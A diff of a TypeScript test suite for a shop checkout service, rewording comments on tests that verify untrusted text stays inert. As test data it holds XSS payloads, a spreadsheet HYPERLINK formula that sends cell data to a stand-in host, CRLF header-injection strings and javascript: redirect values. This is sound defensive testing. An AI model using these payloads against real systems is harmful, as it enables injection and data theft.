@@ -1,5 +1,5 @@
-// Every text of untrusted origin, stored as a store and its shoppers store it, and looked at wherever it is shown: the payment page in
-// its states, e-mails, messages, the panel's answers, a spreadsheet, the headers of answers.
+// Every text of untrusted origin, stored as a store and its shoppers store it, and checked wherever it is shown: the payment page in its
+// states, e-mails, messages, the panel's responses, a spreadsheet, response headers.
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { automate, engineOf, settle, sendEvent } from '../../privacy/testing/full-purchase.ts';
 import { saveAutomation } from '../../automations/save-automation.ts';
@@ -9,10 +9,10 @@ import { startTestService, type TestService } from '../../testing/test-service.t
 import { unsubscribeLink } from '../../links/unsubscribe-link.ts';
 import { newUser, PanelBrowser, password } from '../panel/testing/browser.ts';
 
-/** Ends a text, an attribute, a tag or a script, and begins what must not be. */
+/** Ends a text, an attribute, a tag or a script, and starts an injected one. */
 const evil = `"><script>evil()</script><img src=x onerror="evil()"> ' onfocus='evil()' </title></textarea>`;
 const formula = '=HYPERLINK("https://mau.example/?"&A1,"Clique")';
-/** A line of its own in a header, or an answer of its own. */
+/** A separate header line, or a separate response. */
 const lines = 'Ana\r\nBcc: todos@mau.example\r\n\r\n<script>evil()</script>';
 
 let service: TestService;
@@ -62,7 +62,7 @@ beforeAll(async () => {
 });
 afterAll(() => service.stop());
 
-/** An automation whose name and texts are what a merchant was talked into. */
+/** An automation whose name and texts contain hostile input. */
 async function publish(storeId: string): Promise<void> {
   const message = { name: 'send_whatsapp', data: { type: 'text', message: `{{customer.name}}` } };
   const mail = {
@@ -80,7 +80,7 @@ async function publish(storeId: string): Promise<void> {
   if (!saved.ok) throw new Error(JSON.stringify(saved));
 }
 
-/** A checkout of nothing but evil, taken as far as a way of paying leads. */
+/** A checkout with only hostile texts, continued as far as a payment method leads. */
 async function buy(method: string | null): Promise<string> {
   const item = {
     title: evil,
@@ -122,13 +122,13 @@ async function buy(method: string | null): Promise<string> {
   return made.checkoutId;
 }
 
-/** What would be markup, or an attribute, of untrusted origin. */
+/** Injected markup, or an injected attribute. */
 const markup = /<script>evil|<img src=x|" onerror="evil|' onfocus='evil|<\/title><\/textarea>|href="javascript:/i;
 
-describe('[CHK13] text that others chose is text wherever it is shown', () => {
+describe('[CHK13] untrusted text stays text wherever it is shown', () => {
   const get = async (path: string): Promise<Response> => fetch(service.baseUrl + path, { redirect: 'manual' });
 
-  test('on the payment page, in each of its states, and under a policy that would run none of it', async () => {
+  test('on the payment page, in each of its states, and under a policy that would block it', async () => {
     let pages = 0;
     for (const id of checkouts) {
       for (const path of [
@@ -151,7 +151,7 @@ describe('[CHK13] text that others chose is text wherever it is shown', () => {
     expect(pages).toBeGreaterThan(5);
   });
 
-  test('where it is typed and refused, it is shown again as it was typed', async () => {
+  test('in a refused form, which shows the typed values unchanged', async () => {
     const form = new URLSearchParams({ name: evil, email: evil, phone: evil, document: evil, street: evil });
     const answer = await fetch(`${service.baseUrl}/pay/${checkouts[2]}/data`, { method: 'POST', body: form });
     const page = await answer.text();
@@ -160,7 +160,7 @@ describe('[CHK13] text that others chose is text wherever it is shown', () => {
     expect(page).not.toMatch(markup);
   });
 
-  test('on the page that ends messages', async () => {
+  test('on the unsubscribe page', async () => {
     const { context, storeId } = service;
     const link = unsubscribeLink(context, { storeId, domain: null }, 'email', 'ana@loja.example')!;
     const page = await (await get(new URL(link).pathname)).text();
@@ -179,14 +179,14 @@ describe('[CHK13] text that others chose is text wherever it is shown', () => {
     for (const { subject } of contents) expect(subject).not.toMatch(/\n[\w-]+:/);
   });
 
-  test('in a spreadsheet no cell begins as a formula does', async () => {
+  test('in a spreadsheet, where no cell begins like a formula', async () => {
     const { csv } = (await browser.get(`${base}/runs/export`)).body as { csv: string };
     expect(csv).toContain('HYPERLINK');
     const cells = csv.matchAll(/(?:^|;|\r\n)(?:"((?:[^"]|"")*)"|([^;\r\n]*))/g);
     for (const [, quoted, unquoted] of cells) expect(quoted ?? unquoted).not.toMatch(/^[=+\-@\t\r]/);
   });
 
-  test('in the panel it is JSON that no browser takes for a page', async () => {
+  test('in the panel’s JSON, which no browser treats as a page', async () => {
     for (const path of ['/orders', '/runs', '/checkouts', '/leads', '/messages', '/automations', '/inbox']) {
       const { headers, status, body } = await browser.get(base + path);
       expect([path, status, headers.get('content-type')]).toEqual([path, 200, 'application/json; charset=utf-8']);
@@ -195,7 +195,7 @@ describe('[CHK13] text that others chose is text wherever it is shown', () => {
     }
   });
 
-  test('in the headers of an answer nothing begins another', async () => {
+  test('in response headers, where no value starts another header', async () => {
     const paths = ['/c/x', '/l/x', '/o/x', `/pay/${checkouts[0]}`, '/panel/api/me', '/stores/external/checkout'];
     for (const path of paths) {
       const answer = await fetch(`${service.baseUrl}${path}?q=%0d%0aset-cookie:%20evil=1`, {
@@ -212,7 +212,7 @@ describe('[CHK13] text that others chose is text wherever it is shown', () => {
     'JaVaScRiPt:evil()',
     '//mau.example',
     'https:\\\\mau',
-  ])('no address of a cart leads to %s', async (cancelUrl) => {
+  ])('an address of a cart cannot be %s', async (cancelUrl) => {
     const item = { title: 'Camiseta', quantity: 1, unitPrice: 100, image: 'https://loja.example/c.png' };
     const answer = await service.post({ cart: { items: [item] }, redirect: { cancelUrl } });
     expect(answer.status).toBe(400);
